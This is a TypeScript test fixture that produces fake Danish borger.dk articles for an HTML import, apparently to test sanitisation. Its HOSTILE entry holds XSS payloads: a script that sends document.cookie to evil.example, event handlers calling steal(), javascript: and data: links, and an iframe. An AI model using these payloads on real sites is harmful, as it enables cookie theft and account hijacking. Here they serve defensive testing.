/**
 * Articles for the fake export, in the documented shape of `Content` (selvbetjeningslinks,
 * kernetekst with micro-articles, byline). The Danish is ours, written for these tests: it reads
 * like a public information page and is about made-up errands, never copied from borger.dk.
 */
import { seededRandom } from '../../../src/model/seeded-random.js';
import type { FakeArticle } from './fake-export.js';

const SELF = '1b4e28ba-2fa1-11d2-883f-0016d3cca427';
const PAGE = '9f0c1f2a-0000-4000-8000-00000000abcd';

export const link = (uuid: string) => `https://www.borger.dk/handlingsside?selfserviceId=${uuid}&amp;referringPageId=${PAGE}`;

/** A plain, well-formed article with one self-service link and two micro-articles. */
export const HAVEAFFALD: FakeArticle = {
  id: 1001,
  title: 'Tilmeld haveaffald',
  url: 'https://www.borger.dk/bolig-og-flytning/haveaffald',
  header: 'Du kan få hentet haveaffald ved dit hus. Du tilmelder dig hos kommunen.',
  lastUpdated: '2026-10-01T09:30:00',
  tasks: ['Affald', 'Haveaffald'],
  content:
    '<div id="selvbetjeningslinks"><h3>Selvbetjening</h3><ul>' +
    `<li id="opis_domainservice_${SELF}"><a href="${link(SELF)}" target="_blank" data-personalized="true">Tilmeld haveaffald</a></li>` +
    '</ul></div>' +
    '<div id="kernetekst">' +
    '<div id="microArticle_aaa11111-0000-4000-8000-000000000001"><h2>Hvornår bliver det hentet</h2><div>' +
    '<p>Haveaffald hentes hver anden uge fra april til november.</p>' +
    '<h5>Sådan gør du</h5><ul><li>Læg affaldet i en sæk.</li><li>Stil sækken ved vejen.</li></ul>' +
    '</div></div>' +
    '<div id="microArticle_aaa11111-0000-4000-8000-000000000002"><h2>Hvad koster det</h2><div>' +
    '<p>Prisen står på <a href="https://kommune.example/affald" title="Kommunens side" aria-label="Kommunens side om affald">kommunens side</a>.</p>' +
    '</div></div>' +
    '</div>' +
    '<div id="byline"><p>Redaktionen: Kommunernes Landsforening</p></div>',
};

/** Everything a hostile or careless source sends: script, handlers, javascript: links, iframes, entities, nbsp, http: links. */
export const HOSTILE: FakeArticle = {
  id: 1002,
  title: 'F&#230;llesb&#248;rn &amp; samv&#230;r',
  url: 'http://www.borger.dk/familie/samvaer',
  header: 'Sådan&nbsp;aftaler I&#160;samvær <b>om</b> jeres barn.',
  lastUpdated: '2026-10-02T10:00:00',
  content:
    '<div id="selvbetjeningslinks"><h3>Selvbetjening</h3><ul>' +
    `<li id="opis_domainservice_2c4e28ba-2fa1-11d2-883f-0016d3cca427"><a href="http://www.borger.dk/handlingsside?selfserviceId=2c4e28ba-2fa1-11d2-883f-0016d3cca427" onclick="steal()">Søg om samvær</a></li>` +
    '<li id="opis_domainservice_3d4e28ba-2fa1-11d2-883f-0016d3cca427"><a href="javascript:alert(1)">Klik her</a></li>' +
    '</ul></div>' +
    '<div id="kernetekst">' +
    '<div id="microArticle_bbb22222-0000-4000-8000-000000000001" onmouseover="steal()"><h2 style="color:red">Aftal&nbsp;samvær</h2><div>' +
    '<script>document.location="https://evil.example/?"+document.cookie</script>' +
    '<p onclick="steal()">I kan aftale samvær selv.<img src="x" onerror="steal()"> Læs <a href="javascript:alert(document.domain)">mere her</a>.</p>' +
    '<iframe src="https://evil.example/frame">Ramme-tekst</iframe>' +
    '<p>Se <a href="http://familieretshuset.example/samvaer">Familieretshuset</a> og <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">denne side</a>.</p>' +
    '<p><a href="https://user:pw@evil.example/">snydelink</a> <a href="//evil.example/x">protokol-løs</a></p>' +
    '<style>p { display: none }</style>' +
    '<p>Tegn: &lt;b&gt; er ikke fed &amp; &quot;citat&quot;</p>' +
    '</div></div>' +
    '</div>' +
    '<div id="lovgivning"><h3>Hvad siger loven</h3><div><p>Forældreansvarsloven gælder.</p></div></div>',
};

/** Malformed: no LastUpdated in the shape the service promises. */
export const MALFORMED: FakeArticle = { ...HAVEAFFALD, id: 1003, title: 'Dårlig dato', lastUpdated: 'i går' };

const SUBJECTS = [
  'hundeskat',
  'haveaffald',
  'storskrald',
  'parkeringslicens',
  'vejbump',
  'snerydning',
  'beboerkort',
  'legepladstilsyn',
  'fritidspas',
  'cykelstativ',
  'kolonihave',
  'bålplads',
  'juletræsindsamling',
  'skadedyr',
  'rottebekæmpelse',
  'vandmåler',
  'kloakrotter',
  'gravetilladelse',
  'stilladsleje',
  'facaderenovering',
  'dagplejetilskud',
  'søskenderabat',
  'fripladstilskud',
  'madordning',
  'skolebus',
  'svømmeundervisning',
  'musikskole',
  'ungdomsklub',
  'lektiecafé',
  'sommerferieaktivitet',
  'madudbringning',
  'hjælpemiddel',
  'rollator',
  'boligindretning',
  'trappelift',
  'ledsageordning',
  'aflastning',
  'dagcenter',
  'genoptræning',
  'hjemmesygepleje',
];
const VERBS = ['Søg om', 'Tilmeld', 'Afmeld', 'Ændr', 'Klag over', 'Betal for', 'Forny', 'Bestil'];
const NOUNS = ['borger', 'ansøgning', 'frist', 'betaling', 'afgørelse', 'kommune', 'regel', 'tilskud', 'kvittering', 'ventetid', 'besked', 'aftale', 'adresse', 'barn', 'bolig'];

/**
 * `n` synthetic articles for the import at scale, same every run: titles from errand words, two
 * to four micro-articles, a self-service link on most. Shaped like the export, sized like it
 * (about 2–4 KB of HTML each).
 */
export function syntheticArticles(n: number, seed = 18, firstId = 100_000): FakeArticle[] {
  const next = seededRandom(seed);
  const pick = <T>(list: readonly T[]) => list[Math.floor(next() * list.length)]!;
  const sentence = () => {
    const words = Array.from({ length: 6 + Math.floor(next() * 8) }, () => pick(NOUNS));
    return `${words.join(' ').replace(/^./, (c) => c.toUpperCase())}.`;
  };
  return Array.from({ length: n }, (_, i) => {
    const id = firstId + i;
    const subject = SUBJECTS[i % SUBJECTS.length]!;
    const title =
      `${VERBS[Math.floor(i / SUBJECTS.length) % VERBS.length]} ${subject} ${i >= SUBJECTS.length * VERBS.length ? `(${Math.floor(i / (SUBJECTS.length * VERBS.length)) + 1})` : ''}`.trim();
    const uuid = `${id.toString(16).padStart(8, '0')}-0000-4000-8000-000000000000`;
    const micro = Array.from(
      { length: 2 + Math.floor(next() * 3) },
      (_, m) =>
        `<div id="microArticle_${uuid.slice(0, 8)}-${m}"><h2>${pick(['Hvem kan', 'Sådan gør du', 'Hvad koster det', 'Frister', 'Hvis du klager'])} ${subject}</h2><div>` +
        `<p>${sentence()} ${sentence()} ${sentence()}</p><ul><li>${sentence()}</li><li>${sentence()}</li></ul><p>${sentence()}</p></div></div>`,
    ).join('');
    return {
      id,
      title,
      url: `https://www.borger.dk/synthetic/${id}`,
      header: `${sentence()} ${sentence()}`,
      lastUpdated: `2026-0${1 + Math.floor(next() * 9)}-1${Math.floor(next() * 9)}T0${Math.floor(next() * 9)}:00:00`,
      tasks: [subject],
      content:
        (next() < 0.7 ? `<div id="selvbetjeningslinks"><h3>Selvbetjening</h3><ul><li id="opis_domainservice_${uuid}"><a href="${link(uuid)}">${title}</a></li></ul></div>` : '') +
        `<div id="kernetekst">${micro}</div><div id="byline"><p>Redaktionen: Syntetisk Styrelse</p></div>`,
    };
  });
}
